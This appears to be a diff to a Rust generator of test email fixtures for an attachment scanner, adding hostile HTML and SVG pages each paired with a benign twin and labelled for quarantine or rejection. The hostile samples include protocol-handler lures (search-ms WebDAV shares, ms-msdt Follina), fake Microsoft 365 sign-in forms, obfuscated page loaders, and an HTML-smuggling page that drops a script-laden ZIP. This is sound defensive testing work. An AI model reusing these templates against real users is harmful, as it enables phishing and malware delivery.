@@ -300,7 +300,7 @@ fn risky() -> Vec<Fixture> {
         fx("sniff", "065-docm-renamed-docx", with_attachment("Facture", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "facture.docx", &docm("Facture")), q, &["macro", "type_mismatch"]),
         fx("sniff", "066-xlsm", with_attachment("Budget", "application/vnd.ms-excel.sheet.macroEnabled.12", "budget.xlsm", &xlsx(true)), q, &["macro"]),
         fx("sniff", "067-odt-basic-macro", with_attachment("Ordre du jour", "application/vnd.oasis.opendocument.text", "ordre.odt", &odt(true)), q, &["macro"]),
-        fx("sniff", "068-html-smuggling", with_attachment("Document partagé", "text/html", "document.html", format!("<html><body><script>var d = atob('{}'); var b = new Blob([d], {{type: 'application/zip'}}); var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'facture.zip'; a.click();</script></body></html>", base64_plain(b"PK\x03\x04 fake zip")).as_bytes()), q, &["html_smuggling"]),
+        fx("sniff", "068-html-smuggling", with_attachment("Document partagé", "text/html", "document.html", format!("<html><body><script>var d = atob('{}'); var b = new Blob([d], {{type: 'application/zip'}}); var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'facture.zip'; a.click();</script></body></html>", base64_plain(b"PK\x03\x04 fake zip")).as_bytes()), q, &["html_smuggling", "unscannable_archive"]),
         fx("sniff", "069-svg-script", with_attachment("Plan", "image/svg+xml", "plan.svg", br#"<svg xmlns="http://www.w3.org/2000/svg"><script>location.href='https://example.invalid/'</script></svg>"#), q, &["active_content"]),
         fx("sniff", "070-pdf-openaction-js", with_attachment("Facture", "application/pdf", "facture.pdf", &pdf("/OpenAction 5 0 R", &["5 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n".into()])), q, &["active_content"]),
         fx("sniff", "071-pdf-obfuscated-js", with_attachment("Facture", "application/pdf", "facture.pdf", &pdf("/OpenAction 5 0 R", &["5 0 obj\n<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>\nendobj\n".into()])), q, &["active_content"]),
@@ -1910,6 +1910,135 @@ fn encodings_and_zip_ends() -> Vec<Fixture> {
     ]
 }
 
+/// A name for a generated fixture (the corpus lives as long as the run).
+fn leak(s: String) -> &'static str {
+    Box::leak(s.into_boxed_str())
+}
+
+/// A page that shows `body` under a title, as a web page saved to disk.
+fn html_page(title: &str, head: &str, body: &str) -> String {
+    format!("<!DOCTYPE html>\n<html lang=\"fr\"><head><meta charset=\"utf-8\"><title>{title}</title>{head}</head>\n<body>\n{body}\n</body></html>\n")
+}
+
+/// What a page makes its reader do (issue 32): protocol handlers and
+/// shares by every way a page reaches them, credential pages (plain and
+/// written by each decoder), SVGs that are pages, files a page builds,
+/// HTML under an `.xls` name; each hostile page with an ordinary twin.
+fn pages() -> Vec<Fixture> {
+    let p = "page";
+    let q = "quarantine";
+    let d = "deliver";
+    let none: &[&str] = &[];
+    let ext: &[&str] = &["external_content"];
+    let phishing: &[&str] = &["phishing_page"];
+    let active: &[&str] = &["active_content"];
+    let html = |subject: &str, name: &str, page: &str| with_attachment(subject, "text/html", name, page.as_bytes());
+    let mut out = Vec::new();
+    let mut n = 400;
+    let mut next = |out: &mut Vec<Fixture>, name: &str, eml: String, action: &'static str, cats: &'static [&'static str]| {
+        out.push(fx(p, leak(format!("{n}-{name}")), eml, action, cats));
+        n += 1;
+    };
+    // Each handler by a link, a refresh, a script and a form.
+    let handlers = [
+        ("search-ms", "search-ms:query=Facture&crumb=location:%5C%5C203.0.113.50@SSL%5CDavWWWRoot%5Cpartage&displayname=Documents"),
+        ("search", "search:query=Facture&crumb=location:\\\\203.0.113.50@SSL\\DavWWWRoot\\partage"),
+        ("ms-msdt", "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_BrowseForFile=h\""),
+        ("ms-officecmd", "ms-officecmd:{\"id\":3,\"LocalProviders.LaunchOfficeAppForResult\":{\"details\":{\"appId\":5}}}"),
+        ("ms-word", "ms-word:ofe|u|https://203.0.113.50/modele.docx"),
+        ("ms-excel", "ms-excel:ofv|u|\\\\203.0.113.50\\partage\\budget.xlsx"),
+        ("ms-appinstaller", "ms-appinstaller:?source=https://203.0.113.50/installer.msix"),
+        ("file", "file://203.0.113.50/partage/facture.pdf.lnk"),
+    ];
+    for (scheme, url) in handlers {
+        let attr = url.replace('&', "&amp;").replace('"', "&quot;");
+        let js = url.replace('\\', "\\\\").replace('\'', "\\'");
+        let ways = [
+            ("link", html_page("Documents", "", &format!("<p><a href=\"{attr}\">Ouvrir le dossier partagé</a></p>"))),
+            ("refresh", html_page("Documents", &format!("<meta http-equiv=\"refresh\" content=\"0; url={attr}\">"), "<p>Ouverture…</p>")),
+            ("script", html_page("Documents", "", &format!("<script>window.location.href = '{js}';</script>"))),
+            ("form", html_page("Documents", "", &format!("<form action=\"{attr}\" method=\"get\"><button>Ouvrir</button></form>"))),
+        ];
+        // The shipped Follina rule (office_exploits.yar) calls any
+        // `ms-msdt:` page malware: refused.
+        let (action, cats): (&'static str, &'static [&'static str]) = if scheme == "ms-msdt" {
+            ("reject", &["external_content", "malware"])
+        } else {
+            (q, ext)
+        };
+        for (way, page) in ways {
+            next(&mut out, &format!("{scheme}-by-{way}"), html("Documents numérisés", "Documents.html", &page), action, cats);
+        }
+    }
+    // Their ordinary twins: the same ways to the town's web site.
+    let site = "https://www.ville-exemple.fr/demarches/etat-civil";
+    for (way, page) in [
+        ("link", html_page("Démarches", "", &format!("<p><a href=\"{site}\">Démarches d'état civil</a></p>"))),
+        ("refresh", html_page("Démarches", &format!("<meta http-equiv=\"refresh\" content=\"5; url={site}\">"), "<p>Redirection…</p>")),
+        ("script", html_page("Démarches", "", &format!("<script>setTimeout(function () {{ window.location.href = '{site}'; }}, 5000);</script>"))),
+        ("form", html_page("Démarches", "", &format!("<form action=\"{site}\" method=\"get\"><input name=\"q\"><button>Chercher</button></form>"))),
+    ] {
+        next(&mut out, &format!("town-site-by-{way}"), html("Démarches en ligne", "Demarches.html", &page), d, none);
+    }
+    // A remote share in a frame, and an ordinary map in one.
+    next(&mut out, "remote-share-iframe", html("Plan", "Plan.html", &html_page("Plan", "", "<iframe src=\"\\\\203.0.113.50@SSL\\DavWWWRoot\\plans\\plan.pdf\"></iframe>")), q, ext);
+    next(&mut out, "map-iframe", html("Plan", "Plan.html", &html_page("Plan", "", "<iframe src=\"https://www.openstreetmap.org/export/embed.html?bbox=4.38,45.43,4.40,45.44\"></iframe>")), d, none);
+    // A sign-in form posting away; a newsletter whose search form posts
+    // to the sender's own site.
+    let login = "<div style=\"width:360px;margin:60px auto\"><h2>Microsoft 365</h2><p>Votre session a expiré.</p><form method=\"post\" action=\"https://portail-o365.example.invalid/auth\"><input type=\"email\" name=\"login\"><input type=\"password\" name=\"passwd\"><button>Se connecter</button></form></div>";
+    next(&mut out, "sign-in-posting-away", html("Document partagé", "Document.html", &html_page("Connexion", "", login)), q, phishing);
+    let newsletter = "<h1>La lettre de Saint-Étienne — décembre</h1><p>Marché de Noël, collecte des sapins, horaires des fêtes.</p><form action=\"https://www.ville-exemple.fr/recherche\" method=\"get\"><input type=\"search\" name=\"q\" placeholder=\"Rechercher sur le site\"><button>OK</button></form><p><a href=\"https://www.ville-exemple.fr/agenda\">Tout l'agenda</a></p>";
+    next(&mut out, "newsletter-search-form", html("La lettre de décembre", "Lettre_decembre.html", &html_page("La lettre", "", newsletter)), d, none);
+    // A page written by each decoder; every one of them a sign-in page.
+    let b64 = base64::engine::general_purpose::STANDARD.encode(login);
+    let pct: String = login.bytes().map(|b| format!("%{b:02X}")).collect();
+    let codes: Vec<String> = login.encode_utf16().map(|u| u.to_string()).collect();
+    let codes = codes.join(",");
+    let eval_b64 = base64::engine::general_purpose::STANDARD.encode(format!("document.write(atob('{b64}'));"));
+    for (decoder, script) in [
+        ("atob", format!("var d = \"{b64}\";\ndocument.write(decodeURIComponent(escape(atob(d))));")),
+        ("unescape", format!("document.write(unescape('{pct}'));")),
+        ("decodeuricomponent", format!("document.body.innerHTML = decodeURIComponent(\"{pct}\");")),
+        ("fromcharcode", format!("document.write(String.fromCharCode({codes}));")),
+        ("charcode-array", format!("var t = [{codes}];\nvar s = '';\nfor (var i = 0; i < t.length; i++) {{ s += String.fromCharCode(t[i]); }}\ndocument.documentElement.innerHTML = s;")),
+        ("eval", format!("eval(atob('{eval_b64}'));")),
+    ] {
+        next(&mut out, &format!("written-by-{decoder}"), html("Document partagé", "Bordereau.html", &html_page("Document partagé", "", &format!("<script>\n{script}\n</script>"))), q, phishing);
+    }
+    // Written from text no reading can follow, and an ordinary notice
+    // written from base64.
+    next(&mut out, "written-from-computed-key", html("Document partagé", "Bordereau.html", &html_page("Document partagé", "", &format!("<script>\nvar k = navigator.userAgent.length % 7;\nvar d = '{b64}'.split('').map(function (c) {{ return String.fromCharCode(c.charCodeAt(0) ^ k); }}).join('');\ndocument.write(atob(d));\n</script>"))), q, phishing);
+    let notice = base64::engine::general_purpose::STANDARD.encode("<p>Ce rapport a été généré automatiquement par le logiciel de gestion des salles.</p>");
+    next(&mut out, "written-notice", html("Rapport", "Rapport.html", &html_page("Rapport", "", &format!("<script>document.write(atob('{notice}'));</script>"))), d, none);
+    // SVGs: HTML in a foreignObject in three namespace forms, a script, an
+    // event attribute; an ordinary chart.
+    let svg = |inner: &str, root_attrs: &str| format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"{root_attrs} width=\"400\" height=\"300\" viewBox=\"0 0 400 300\">\n<rect width=\"400\" height=\"300\" fill=\"#eee\"/>\n{inner}\n</svg>\n");
+    for (form, doc) in [
+        ("default-namespace", svg("<foreignObject width=\"400\" height=\"300\"><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Message vocal (0:42)</p><a href=\"https://messagerie.example.invalid/\">Écouter</a></body></html></foreignObject>", "")),
+        ("prefix-on-element", svg("<foreignObject width=\"400\" height=\"300\"><xhtml:div xmlns:xhtml=\"http://www.w3.org/1999/xhtml\"><xhtml:p>Message vocal (0:42)</xhtml:p></xhtml:div></foreignObject>", "")),
+        ("prefix-on-root", svg("<foreignObject width=\"400\" height=\"300\"><h:body><h:p>Message vocal (0:42)</h:p></h:body></foreignObject>", " xmlns:h=\"http://www.w3.org/1999/xhtml\"")),
+    ] {
+        next(&mut out, &format!("svg-foreignobject-{form}"), with_attachment("Message vocal", "image/svg+xml", "Message_vocal.svg", doc.as_bytes()), q, active);
+    }
+    next(&mut out, "svg-script", with_attachment("Message vocal", "image/svg+xml", "Message_vocal.svg", svg("<script type=\"text/javascript\"><![CDATA[ setTimeout(function () { window.location = 'https://messagerie.example.invalid/#' + 1; }, 100); ]]></script>", "").as_bytes()), q, active);
+    next(&mut out, "svg-event-attribute", with_attachment("Message vocal", "image/svg+xml", "Message_vocal.svg", svg("<image href=\"x\" onerror=\"window.location='https://messagerie.example.invalid/'\"/>", "").as_bytes()), q, active);
+    let chart = svg("<title>Budget 2027 par poste</title><g font-family=\"sans-serif\" font-size=\"12\"><rect x=\"40\" y=\"60\" width=\"60\" height=\"200\" fill=\"#3b6\"/><text x=\"40\" y=\"280\">Écoles</text><rect x=\"140\" y=\"120\" width=\"60\" height=\"140\" fill=\"#36b\"/><text x=\"140\" y=\"280\">Voirie</text><a href=\"https://www.ville-exemple.fr/budget\"><text x=\"240\" y=\"40\">Détail du budget</text></a></g>", " xmlns:xlink=\"http://www.w3.org/1999/xlink\"");
+    next(&mut out, "svg-chart", with_attachment("Budget", "image/svg+xml", "Budget_2027.svg", chart.as_bytes()), d, none);
+    // A page that builds a ZIP; a report whose button exports its table.
+    let inner_zip = zip(&[("Facture_2026-11.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');")]);
+    let zb64 = base64::engine::general_purpose::STANDARD.encode(&inner_zip);
+    let smuggler = format!("<p>Chargement du document…</p><script>\nvar d = atob(\"{zb64}\");\nvar a = new Uint8Array(d.length);\nfor (var i = 0; i < d.length; i++) {{ a[i] = d.charCodeAt(i); }}\nvar f = new Blob([a], {{type: 'application/zip'}});\nvar l = document.createElement('a');\nl.href = URL.createObjectURL(f); l.download = 'Facture_2026-11.zip'; l.click();\n</script>");
+    next(&mut out, "smuggling-zip", html("Facture", "Facture.html", &html_page("Facture", "", &smuggler)), q, &["html_smuggling", "script"]);
+    let report = "<h1>Fréquentation des piscines</h1><button onclick=\"exporter()\">Exporter en CSV</button><table id=\"t\"><tr><th>Mois</th><th>Entrées</th></tr><tr><td>Octobre</td><td>8 412</td></tr><tr><td>Novembre</td><td>7 950</td></tr></table><script>\nfunction exporter() {\n  var lignes = [];\n  document.querySelectorAll('#t tr').forEach(function (tr) {\n    var c = [];\n    tr.querySelectorAll('th,td').forEach(function (x) { c.push('\"' + x.textContent + '\"'); });\n    lignes.push(c.join(';'));\n  });\n  var blob = new Blob([String.fromCharCode(0xFEFF) + lignes.join('\\r\\n')], {type: 'text/csv;charset=utf-8'});\n  var a = document.createElement('a');\n  a.href = URL.createObjectURL(blob);\n  a.download = 'piscines.csv';\n  a.click();\n}\n</script>";
+    next(&mut out, "report-csv-export", html("Fréquentation", "Frequentation.html", &html_page("Fréquentation", "", report)), d, none);
+    // HTML tables saved as .xls, with and without a script.
+    let table = "<table border=\"1\"><tr><th>Nom</th><th>Classe</th></tr><tr><td>Martin</td><td>CE2</td></tr></table>";
+    let xls = |extra: &str| format!("<html xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\" xmlns=\"http://www.w3.org/TR/REC-html40\"><head><meta name=\"ProgId\" content=\"Excel.Sheet\"></head><body>{table}{extra}</body></html>");
+    next(&mut out, "xls-html-export", with_attachment("Export", "application/vnd.ms-excel", "Export_inscriptions.xls", xls("").as_bytes()), d, none);
+    next(&mut out, "xls-html-export-script", with_attachment("Export", "application/vnd.ms-excel", "Export_inscriptions.xls", xls("<script>location.href = 'search-ms:query=Inscriptions&crumb=location:\\\\\\\\203.0.113.50@SSL\\\\DavWWWRoot\\\\export';</script>").as_bytes()), q, ext);
+    out
+}
+
 fn main() {
     let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/eml");
     let all: Vec<Fixture> = [
@@ -1925,9 +2054,15 @@ fn main() {
         dangerous_types(),
         hiding(),
         encodings_and_zip_ends(),
+        pages(),
     ]
     .into_iter()
     .flatten()
+    // `make_fixtures CLASS …` writes those classes only.
+    .filter(|f| {
+        let only: Vec<String> = std::env::args().skip(1).collect();
+        only.is_empty() || only.iter().any(|c| c == f.class)
+    })
     .collect();
     // Only the classes written here are made anew: `realworld/` holds the
     // cases rebuilt from public reports (../shared/cases), copied by hand.
